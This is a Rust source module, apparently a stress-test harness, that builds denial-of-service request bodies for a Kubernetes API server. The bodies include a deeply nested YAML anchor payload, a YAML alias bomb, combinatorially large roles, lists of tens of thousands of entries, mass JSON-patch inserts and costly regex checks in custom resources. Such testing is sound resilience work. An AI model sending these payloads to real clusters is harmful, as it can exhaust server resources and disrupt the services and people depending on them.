//! Attacks by one body: small ones that grow, and long lists.

use crate::scene::{JSON, JSON_PATCH, Scene, YAML};
use serde_json::{Map, Value, json};

const MAPS: &str = "/api/v1/namespaces/default/configmaps";
const PODS: &str = "/api/v1/namespaces/default/pods";
const DEFINITIONS: &str = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions";
const MAP_HEAD: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: m}\n";
/// Entries of the long lists.
const ENTRIES: usize = 20_000;
/// Volumes, with a mount for each: more would exceed the limit on values in a body.
const VOLUMES: usize = 12_000;

pub(crate) async fn nested_anchors(scene: &Scene) -> String {
    const LEVELS: usize = 490;
    let open: String = (0..LEVELS).map(|at| format!("&a{at} [")).collect();
    let body = format!("{MAP_HEAD}more: {open}{}0{}\n", "0,".repeat(1_400_000), "]".repeat(LEVELS));
    scene.attack(&format!("POST {MAPS}"), YAML, body).await
}

pub(crate) async fn aliases(scene: &Scene) -> String {
    let large = "x".repeat(1_000_000);
    let body = format!("{MAP_HEAD}data: &a {{k: {large}}}\nmore: [{}]\n", vec!["*a"; 900].join(","));
    scene.attack(&format!("POST {MAPS}"), YAML, body).await
}

pub(crate) async fn multiplied_role(scene: &Scene) -> String {
    let many = |word: &str| (0..100).map(|number| json!(format!("{word}{number}"))).collect::<Vec<_>>();
    let rules = json!([{
        "verbs": many("v"), "apiGroups": many("g"), "resources": many("r"), "resourceNames": many("n"),
    }]);
    let role = json!({"metadata": {"name": "huge"}, "rules": rules});
    let path = "POST /apis/rbac.authorization.k8s.io/v1/namespaces/default/roles";
    scene.attack(path, JSON, role.to_string()).await
}

pub(crate) async fn owners(scene: &Scene) -> String {
    let owner =
        |number: usize| json!({"apiVersion": "v1", "kind": "P", "name": "a", "uid": number.to_string()});
    let owners: Vec<Value> = (0..ENTRIES).map(owner).collect();
    let body = |name: &str| json!({"metadata": {"name": name, "ownerReferences": owners}}).to_string();
    let requests = ["a", "b"].map(|name| (format!("POST {MAPS}"), JSON, body(name)));
    scene.attack_at_once(requests.into()).await
}

fn pod(container: Value, spec: Value) -> String {
    let mut pod = json!({"metadata": {"name": "p"}, "spec": {"containers": [{"name": "c", "image": "i"}]}});
    let into = |into: &mut Value, from: Value| {
        let from = from.as_object().cloned().unwrap_or_default();
        into.as_object_mut().unwrap().extend(from);
    };
    into(&mut pod["spec"]["containers"][0], container);
    into(&mut pod["spec"], spec);
    pod.to_string()
}

pub(crate) async fn ports(scene: &Scene) -> String {
    let port = |number: usize| json!({"containerPort": number + 1, "name": format!("p-{number}")});
    let ports: Vec<Value> = (0..ENTRIES).map(port).collect();
    scene.attack(&format!("POST {PODS}"), JSON, pod(json!({"ports": ports}), json!({}))).await
}

pub(crate) async fn volumes(scene: &Scene) -> String {
    let volume = |number: usize| json!({"name": format!("v{number}"), "emptyDir": {}});
    let mount = |number: usize| json!({"name": format!("v{number}"), "mountPath": format!("/{number}")});
    let volumes: Vec<Value> = (0..VOLUMES).map(volume).collect();
    let mounts: Vec<Value> = (0..VOLUMES).map(mount).collect();
    let body = pod(json!({"volumeMounts": mounts}), json!({"volumes": volumes}));
    scene.attack(&format!("POST {PODS}"), JSON, body).await
}

pub(crate) async fn spread(scene: &Scene) -> String {
    let constraint = |number: usize| json!({"maxSkew": 1, "topologyKey": format!("k{number}"), "whenUnsatisfiable": "DoNotSchedule"});
    let all: Vec<Value> = (0..ENTRIES).map(constraint).collect();
    scene
        .attack(&format!("POST {PODS}"), JSON, pod(json!({}), json!({"topologySpreadConstraints": all})))
        .await
}

/// A config map with many finalizers.
pub(crate) async fn long_list(scene: &Scene) {
    let finalizers: Vec<String> = (0..ENTRIES).map(|number| format!("a/{number}")).collect();
    scene.make(MAPS, json!({"metadata": {"name": "long", "finalizers": finalizers}})).await;
}

pub(crate) async fn inserts(scene: &Scene) -> String {
    let insert = |number: usize| json!({"op": "add", "path": "/metadata/finalizers/0", "value": format!("b/{number}")});
    let patch: Vec<Value> = (0..9000).map(insert).collect();
    scene.attack(&format!("PATCH {MAPS}/long"), JSON_PATCH, json!(patch).to_string()).await
}

/// A definition of things whose `spec` has this schema.
pub(crate) fn definition(spec: &Value) -> Value {
    let schema = json!({"type": "object", "properties": {"spec": spec}});
    let names = json!({"plural": "things", "singular": "thing", "kind": "Thing", "listKind": "ThingList"});
    let version =
        json!({"name": "v1", "served": true, "storage": true, "schema": {"openAPIV3Schema": schema}});
    json!({
        "metadata": {"name": "things.example.com"},
        "spec": {"group": "example.com", "scope": "Namespaced", "names": names, "versions": [version]},
    })
}

pub(crate) async fn large_patterns(scene: &Scene) -> String {
    let property = |number: usize| {
        let pattern = format!(r"\pL{{300}}{number}");
        (format!("p{number}"), json!({"type": "string", "maxLength": 10, "pattern": pattern}))
    };
    let properties: Map<String, Value> = (0..100).map(property).collect();
    let body = definition(&json!({"type": "object", "properties": properties}));
    scene.attack(&format!("POST {DEFINITIONS}"), JSON, body.to_string()).await
}

pub(crate) async fn matching_definition(scene: &Scene) {
    let text = json!({"type": "string", "maxLength": 30});
    let rule = json!([{"rule": "self.a.matches(self.b) || true", "message": "m"}]);
    let item = json!({"type": "object", "properties": {"a": text, "b": text}, "required": ["a", "b"], "x-kubernetes-validations": rule});
    let items = json!({"type": "array", "maxItems": 1000, "items": item});
    scene.make(DEFINITIONS, definition(&json!({"type": "object", "properties": {"items": items}}))).await;
}

pub(crate) async fn costly_matches(scene: &Scene) -> String {
    let item = |number: usize| json!({"a": "x", "b": format!(r"\pL{{300}}{number}")});
    let items: Vec<Value> = (0..1000).map(item).collect();
    let body = json!({"apiVersion": "example.com/v1", "kind": "Thing", "metadata": {"name": "t"}, "spec": {"items": items}});
    scene.attack("POST /apis/example.com/v1/namespaces/default/things", JSON, body.to_string()).await
}
